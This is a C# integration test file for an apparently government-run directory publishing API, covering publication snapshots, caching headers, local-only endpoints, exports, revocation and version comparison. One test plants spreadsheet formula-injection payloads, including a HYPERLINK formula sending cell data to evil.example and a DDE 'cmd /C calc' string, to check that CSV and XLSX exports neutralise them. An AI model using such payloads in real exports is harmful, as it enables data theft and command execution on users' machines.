using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.Extensions.DependencyInjection;
using MiniExcelLibs;
using YangFan.Benchmarks.IntegrationTests.Infrastructure;
using YangFan.Benchmarks.LoadHost;

namespace YangFan.Benchmarks.IntegrationTests.Decisions;

public sealed class DirectoryTests(ApiFixture fixture) : ApiTest(fixture)
{
    private Task<(Guid CallId, JsonElement Directory, HttpClient Admin)> PublishedAsync(Func<Guid, Task>? beforePublishing = null) =>
        PublishAsync(Fixture, ExecuteAsync, beforePublishing);

    /// <summary>A call with two approved applications (one in smart-ports), published as a directory.</summary>
    internal static async Task<(Guid CallId, JsonElement Directory, HttpClient Admin)> PublishAsync(ApiFixture fixture,
        Func<string, Task<int>> execute, Func<Guid, Task>? beforePublishing = null)
    {
        var factory = fixture.Factory;
        var admin = await Calls.SignedInAsync(factory, ApiFactory.AdminEmail, ApiFactory.AdminPassword);
        var s = await Reviews.ReviewScenario.InReviewAsync(factory, admin);
        var other = await Calls.SignedInAsRoleAsync(factory, admin, "Applicant");
        var second = await WorkflowBuilder.CreateApplicationAsync(other, s.CallId, sector: "smart-ports");
        await Transitions.FireAsync(other, second, "submit");
        await Transitions.FireAsync(s.Recommender, second, "recommend");
        await Transitions.FireAsync(admin, second, "accept");
        var experts = await WorkflowBuilder.CreateExpertsAsync(admin, 3);
        foreach (var id in new[] { s.ApplicationId, second })
        {
            await WorkflowBuilder.SubmitReviewsAsync(factory, id, experts);
            await Transitions.FireAsync(admin, id, "shortlist");
        }
        await admin.PostAsync($"/api/calls/{s.CallId}/decisions/release", null);
        await execute($"UPDATE \"Applications\" SET \"State\" = 'Approved' WHERE \"CallId\" = '{s.CallId}'");
        if (beforePublishing is not null)
            await beforePublishing(s.CallId);

        var published = await admin.PostAsync($"/api/calls/{s.CallId}/directory", null);
        await Expect.StatusAsync(published, HttpStatusCode.Created);
        return (s.CallId, await published.Content.ReadFromJsonAsync<JsonElement>(), admin);
    }

    [Fact]
    public async Task Publishing_snapshots_the_approved_applications_and_marks_them_published()
    {
        var (callId, directory, admin) = await PublishedAsync();
        var id = directory.GetProperty("id").GetGuid();

        var read = await Anonymous().GetFromJsonAsync<JsonElement>($"/api/directories/{id}");

        Assert.Equal(2, read.GetProperty("entryCount").GetInt32());
        Assert.Equal(64, read.GetProperty("contentHash").GetString()!.Length);
        Assert.Equal(2, await ScalarAsync<long>($"SELECT count(*) FROM \"Applications\" WHERE \"CallId\" = '{callId}' AND \"State\" = 'Published'"));
        var filtered = await Anonymous().GetFromJsonAsync<JsonElement>($"/api/directories/{id}?sector=smart-ports");
        Assert.Equal(1, filtered.GetProperty("entries").GetProperty("total").GetInt32());
        await Expect.ProblemAsync(await admin.PostAsync($"/api/calls/{callId}/directory", null), 409, "conflict");
    }

    [Fact]
    public async Task A_published_version_carries_a_strong_ETag_and_a_matching_If_None_Match_gets_304()
    {
        var (_, directory, _) = await PublishedAsync();
        var id = directory.GetProperty("id").GetGuid();

        var first = await Anonymous().GetAsync($"/api/directories/{id}");
        Assert.False(first.Headers.ETag!.IsWeak);
        Assert.Contains("max-age", first.Headers.CacheControl!.ToString());
        var again = new HttpRequestMessage(HttpMethod.Get, $"/api/directories/{id}");
        again.Headers.IfNoneMatch.Add(first.Headers.ETag);

        Assert.Equal(HttpStatusCode.NotModified, (await Anonymous().SendAsync(again)).StatusCode);
    }

    [Fact]
    public async Task The_load_runs_floor_endpoint_exists_only_when_configured_and_serves_the_same_page()
    {
        var (_, directory, _) = await PublishedAsync();
        var id = directory.GetProperty("id").GetGuid();
        Assert.Equal(HttpStatusCode.NotFound, (await Anonymous().GetAsync($"/floor/directories/{id}")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await Anonymous().GetAsync("/floor/progress")).StatusCode);

        var settings = ApiFactory.PostgresSettings(Fixture.ConnectionString, Path.Combine(Path.GetTempPath(), $"yangfan-floor-{Guid.NewGuid():N}"));
        await using var production = new ApiFactory(settings);
        await using var benchmarked = production.WithWebHostBuilder(b => b.ConfigureServices(FloorEndpoints.Add));
        var client = benchmarked.CreateClient();
        foreach (var query in new[] { "?page=1&pageSize=1", "?page=2&pageSize=1", "" })
        {
            var api = await client.GetStringAsync($"/api/directories/{id}{query}");
            var floor = await client.GetStringAsync($"/floor/directories/{id}{query}");
            Assert.Equal(JsonSerializer.Serialize(JsonDocument.Parse(api)), JsonSerializer.Serialize(JsonDocument.Parse(floor)));
        }
        Assert.Equal(HttpStatusCode.NotFound, (await client.GetAsync($"/floor/directories/{Guid.NewGuid()}")).StatusCode);

        // Only clients on the same machine get an answer: the raw progress count includes staged decisions.
        await using var remote = benchmarked.WithWebHostBuilder(b => b.ConfigureServices(services =>
            services.AddSingleton<IStartupFilter>(new RemoteAddressFromHeader())));
        async Task<HttpStatusCode> FromAsync(string address, string path)
        {
            using var request = new HttpRequestMessage(HttpMethod.Get, path);
            request.Headers.Add(RemoteAddressFromHeader.Header, address);
            return (await remote.CreateClient().SendAsync(request)).StatusCode;
        }
        Assert.Equal(HttpStatusCode.OK, await FromAsync("127.0.0.1", "/floor/progress"));
        Assert.Equal(HttpStatusCode.OK, await FromAsync("::1", $"/floor/directories/{id}"));
        Assert.Equal(HttpStatusCode.NotFound, await FromAsync("203.0.113.7", "/floor/progress"));
        Assert.Equal(HttpStatusCode.NotFound, await FromAsync("203.0.113.7", $"/floor/directories/{id}"));
        Assert.Equal(HttpStatusCode.OK, await FromAsync("203.0.113.7", $"/api/directories/{id}"));
    }

    /// <summary>The in-memory test server has no remote address; this gives requests the one named in a header.</summary>
    private sealed class RemoteAddressFromHeader : IStartupFilter
    {
        public const string Header = "X-Test-Remote-Address";

        public Action<IApplicationBuilder> Configure(Action<IApplicationBuilder> next) => app =>
        {
            app.Use((context, nextMiddleware) =>
            {
                if (context.Request.Headers[Header].ToString() is { Length: > 0 } address)
                    context.Connection.RemoteIpAddress = IPAddress.Parse(address);
                return nextMiddleware(context);
            });
            next(app);
        };
    }

    [Fact]
    public async Task Every_export_reads_back_to_the_same_rows()
    {
        var (_, directory, _) = await PublishedAsync();
        var id = directory.GetProperty("id").GetGuid();
        var json = await Anonymous().GetFromJsonAsync<JsonElement[]>($"/api/directories/{id}/export?format=json");
        var expected = json!.Select(r => (r.GetProperty("creditCode").GetString(), r.GetProperty("organisationName").GetString(), r.GetProperty("title").GetString())).ToList();

        var csv = await Anonymous().GetByteArrayAsync($"/api/directories/{id}/export?format=csv");
        Assert.Equal(Encoding.UTF8.GetPreamble(), csv[..3]);
        var lines = Encoding.UTF8.GetString(csv[3..]).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal("organisationName,creditCode,title,sectorCode,provinceCode,batch,revoked,revokedReason", lines[0]);
        Assert.Equal(expected, lines.Skip(1).Select(l => l.Split(',')).Select(c => ((string?)c[1], (string?)c[0], (string?)c[2])));

        var xlsx = await Anonymous().GetByteArrayAsync($"/api/directories/{id}/export?format=xlsx");
        var rows = new MemoryStream(xlsx).Query(useHeaderRow: true).Cast<IDictionary<string, object>>().ToList();
        Assert.Equal(expected, rows.Select(r => ((string?)r["creditCode"]?.ToString(), (string?)r["organisationName"]?.ToString(), (string?)r["title"]?.ToString())));
        await Expect.ProblemAsync(await Anonymous().GetAsync($"/api/directories/{id}/export?format=pdf"), 400, "validation");
    }

    private const string FormulaName = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点此查看\")";
    private const string FormulaTitle = "@SUM(1+1)*cmd|' /C calc'!A0";
    private const string FormulaReason = "+撤销：复核发现项目已停止运行，依规撤销。";

    [Fact]
    public async Task Csv_and_xlsx_exports_keep_formula_like_text_as_text_in_every_field()
    {
        var (_, directory, admin) = await PublishedAsync(async callId =>
        {
            await ExecuteAsync($"UPDATE \"Organisations\" SET \"Name\" = '{FormulaName.Replace("'", "''")}' WHERE \"Id\" IN " +
                $"(SELECT \"OrganisationId\" FROM \"Applications\" WHERE \"CallId\" = '{callId}')");
            // The directory shows the name each application was submitted under (ADR 0013).
            await ExecuteAsync($"UPDATE \"Applications\" SET \"Title\" = '{FormulaTitle.Replace("'", "''")}', " +
                $"\"SubmittedOrganisationName\" = '{FormulaName.Replace("'", "''")}' WHERE \"CallId\" = '{callId}'");
        });
        var first = (await Anonymous().GetFromJsonAsync<JsonElement>($"/api/directories/{directory.GetProperty("id").GetGuid()}"))
            .GetProperty("entries").GetProperty("items")[0].GetProperty("id").GetGuid();
        var revoked = await admin.PostAsJsonAsync($"/api/directory-entries/{first}/revoke", new { reason = FormulaReason });
        await Expect.StatusAsync(revoked, HttpStatusCode.OK);
        var id = (await revoked.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetGuid();

        var csv = await Anonymous().GetByteArrayAsync($"/api/directories/{id}/export?format=csv");
        var records = ParseCsv(Encoding.UTF8.GetString(csv[3..]));
        var header = records[0];
        var rows = records.Skip(1).Select(r => header.Zip(r).ToDictionary(c => c.First, c => c.Second)).ToList();
        Assert.Equal(2, rows.Count);
        Assert.All(rows, r => Assert.Equal("'" + FormulaName, r["organisationName"]));
        Assert.All(rows, r => Assert.Equal("'" + FormulaTitle, r["title"]));
        Assert.Contains(rows, r => r["revokedReason"] == "'" + FormulaReason);

        var xlsx = await Anonymous().GetByteArrayAsync($"/api/directories/{id}/export?format=xlsx");
        var (formulas, texts) = ReadSheet(xlsx);
        Assert.Equal(0, formulas);
        Assert.Equal(2, texts.Count(t => t == "'" + FormulaName));
        Assert.Equal(2, texts.Count(t => t == "'" + FormulaTitle));
        Assert.Contains("'" + FormulaReason, texts);

        foreach (var cell in records.SelectMany(r => r).Concat(texts))
            Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]), $"A cell starts with a formula trigger: {cell}");
        // JSON is no spreadsheet: it keeps the text as published.
        var json = await Anonymous().GetFromJsonAsync<JsonElement[]>($"/api/directories/{id}/export?format=json");
        Assert.All(json!, e => Assert.Equal(FormulaName, e.GetProperty("organisationName").GetString()));
    }

    /// <summary>RFC 4180: fields separated by commas, records by CRLF, quoted fields with doubled quotes.</summary>
    private static List<List<string>> ParseCsv(string text)
    {
        var records = new List<List<string>>();
        var record = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c != '"') field.Append(c);
                else if (i + 1 < text.Length && text[i + 1] == '"') field.Append(text[++i]);
                else quoted = false;
            }
            else if (c == '"') quoted = true;
            else if (c == ',') { record.Add(field.ToString()); field.Clear(); }
            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
            {
                i++;
                record.Add(field.ToString());
                field.Clear();
                records.Add(record);
                record = [];
            }
            else field.Append(c);
        }
        return records;
    }

    /// <summary>The first worksheet's formula count and every text value, shared or inline, read from the package's XML.</summary>
    private static (int Formulas, List<string> Texts) ReadSheet(byte[] xlsx)
    {
        using var package = new System.IO.Compression.ZipArchive(new MemoryStream(xlsx));
        System.Xml.Linq.XDocument Part(string name)
        {
            using var stream = package.GetEntry(name)!.Open();
            return System.Xml.Linq.XDocument.Load(stream);
        }
        System.Xml.Linq.XNamespace x = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
        var shared = package.GetEntry("xl/sharedStrings.xml") is null ? [] :
            Part("xl/sharedStrings.xml").Descendants(x + "si").Select(si => string.Concat(si.Descendants(x + "t").Select(t => t.Value))).ToList();
        var sheet = Part("xl/worksheets/sheet1.xml");
        var texts = sheet.Descendants(x + "c").Select(c => (string?)c.Attribute("t") switch
        {
            "s" => shared[int.Parse(c.Element(x + "v")!.Value)],
            "inlineStr" => string.Concat(c.Descendants(x + "t").Select(t => t.Value)),
            "str" => c.Element(x + "v")?.Value,
            _ => null,
        }).OfType<string>().ToList();
        return (sheet.Descendants(x + "f").Count(), texts);
    }

    [Fact]
    public async Task Revoking_an_entry_publishes_a_new_version_and_never_changes_the_old_one()
    {
        var (_, directory, admin) = await PublishedAsync();
        var id = directory.GetProperty("id").GetGuid();
        var before = await Anonymous().GetFromJsonAsync<JsonElement>($"/api/directories/{id}");
        var entry = before.GetProperty("entries").GetProperty("items")[0].GetProperty("id").GetGuid();

        var revoked = await admin.PostAsJsonAsync($"/api/directory-entries/{entry}/revoke", new { reason = "复核发现项目已停止运行，依规撤销。" });
        await Expect.StatusAsync(revoked, HttpStatusCode.OK);
        var next = await revoked.Content.ReadFromJsonAsync<JsonElement>();

        var old = await Anonymous().GetFromJsonAsync<JsonElement>($"/api/directories/{id}");
        Assert.Equal(before.GetProperty("contentHash").GetString(), old.GetProperty("contentHash").GetString());
        Assert.Equal(2, old.GetProperty("activeCount").GetInt32());
        Assert.Equal(1, next.GetProperty("activeCount").GetInt32());
        Assert.NotEqual(before.GetProperty("contentHash").GetString(), next.GetProperty("contentHash").GetString());
        Assert.Equal(1, await ScalarAsync<long>("SELECT count(*) FROM \"Applications\" WHERE \"State\" = 'Revoked'"));
        Assert.Equal(1, await ScalarAsync<long>("SELECT count(*) FROM \"AuditEvents\" WHERE \"Action\" = 'directory.entry-revoked'"));
        await Expect.ProblemAsync(await admin.PostAsJsonAsync($"/api/directory-entries/{entry}/revoke", new { reason = "再次撤销同一条目，应当拒绝。" }), 409, "conflict");
        var applicant = await Calls.SignedInAsRoleAsync(Factory, admin, "Applicant");
        await Expect.ProblemAsync(await applicant.PostAsJsonAsync($"/api/directory-entries/{entry}/revoke", new { reason = "申请人不能撤销名录条目。" }), 403, "forbidden");
    }

    [Fact]
    public async Task The_candidates_are_the_calls_approved_applications_until_they_are_published()
    {
        JsonElement candidates = default;
        var (callId, _, admin) = await PublishedAsync(async call =>
            candidates = await (await AsAdminAsync()).GetFromJsonAsync<JsonElement>($"/api/calls/{call}/directory/candidates"));

        Assert.Equal(2, candidates.GetProperty("total").GetInt32());
        Assert.Contains(candidates.GetProperty("items").EnumerateArray(), c => c.GetProperty("sectorCode").GetString() == "smart-ports");
        Assert.All(candidates.GetProperty("items").EnumerateArray(), c => Assert.Equal(18, c.GetProperty("creditCode").GetString()!.Length));
        Assert.Equal(0, (await admin.GetFromJsonAsync<JsonElement>($"/api/calls/{callId}/directory/candidates")).GetProperty("total").GetInt32());
        await Expect.ProblemAsync(await admin.GetAsync($"/api/calls/{Guid.NewGuid()}/directory/candidates"), 404, "not-found");
        await Expect.ProblemAsync(await Anonymous().GetAsync($"/api/calls/{callId}/directory/candidates"), 401, "unauthenticated");
    }

    [Fact]
    public async Task Comparing_two_versions_lists_the_entries_added_removed_with_the_reason_and_unchanged()
    {
        var (_, directory, admin) = await PublishedAsync();
        var first = directory.GetProperty("id").GetGuid();
        var entries = (await Anonymous().GetFromJsonAsync<JsonElement>($"/api/directories/{first}")).GetProperty("entries").GetProperty("items");
        const string reason = "复核发现项目已停止运行，依规撤销。";
        var revoked = await admin.PostAsJsonAsync($"/api/directory-entries/{entries[0].GetProperty("id").GetGuid()}/revoke", new { reason });
        var second = (await revoked.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetGuid();

        var forward = await Anonymous().GetFromJsonAsync<JsonElement>($"/api/directories/compare?a={first}&b={second}");

        Assert.Equal(0, forward.GetProperty("added").GetArrayLength());
        var removed = Assert.Single(forward.GetProperty("removed").EnumerateArray());
        Assert.Equal(entries[0].GetProperty("creditCode").GetString(), removed.GetProperty("creditCode").GetString());
        Assert.Equal(reason, removed.GetProperty("revokedReason").GetString());
        Assert.Equal(entries[1].GetProperty("creditCode").GetString(), Assert.Single(forward.GetProperty("unchanged").EnumerateArray()).GetProperty("creditCode").GetString());
        Assert.Equal(2, forward.GetProperty("b").GetProperty("number").GetInt32());
        var backward = await Anonymous().GetFromJsonAsync<JsonElement>($"/api/directories/compare?a={second}&b={first}");
        Assert.Equal(entries[0].GetProperty("creditCode").GetString(), Assert.Single(backward.GetProperty("added").EnumerateArray()).GetProperty("creditCode").GetString());
        Assert.Equal(0, backward.GetProperty("removed").GetArrayLength());

        var other = Guid.NewGuid();
        var otherCall = await WorkflowBuilder.OpenCallAsync(admin);
        await ExecuteAsync($$"""
            INSERT INTO "Directories" ("Id", "CallId", "ProgrammeKey", "Number", "TitleZh", "TitleEn", "PublishedAt", "ContentHash", "EntryCount", "ActiveCount")
            VALUES ('{{other}}', '{{otherCall}}', 'demonstration-benchmark', 1, 'x', 'x', now(), repeat('0', 64), 0, 0)
            """);
        await Expect.ProblemAsync(await Anonymous().GetAsync($"/api/directories/compare?a={first}&b={other}"), 400, "validation");
        await Expect.ProblemAsync(await Anonymous().GetAsync($"/api/directories/compare?a={first}&b={Guid.NewGuid()}"), 404, "not-found");
    }
}
